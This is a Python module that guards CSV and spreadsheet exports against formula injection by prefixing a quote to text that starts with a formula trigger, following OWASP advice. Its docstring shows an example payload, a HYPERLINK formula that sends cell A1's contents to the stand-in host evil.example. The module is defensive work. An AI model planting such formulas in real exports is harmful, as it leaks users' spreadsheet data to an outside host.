"""Keeping exported text from turning into spreadsheet formulas (CSV or formula injection).

A customer named ``=HYPERLINK("http://evil.example/?"&A1, "Click")`` is harmless in
the workbook, where it was typed as text, but a spreadsheet program opening a CSV
(or an HTML table) made from it would run it as a formula. As OWASP advises, a text
value that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
single quote in front, so every spreadsheet shows it as the text it was. The
full-width forms of those signs are included: some spreadsheet programs read them
as formulas too. Numbers the tool writes itself are never text and are left alone.
"""

from __future__ import annotations

from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise_formula(text: str) -> str:
    """``'=1+1`` for ``=1+1``: text a spreadsheet will not run as a formula."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def safe_cell(value: Any) -> Any:
    """A value ready for an export: text neutralised, anything else unchanged."""
    return neutralise_formula(value) if isinstance(value, str) else value
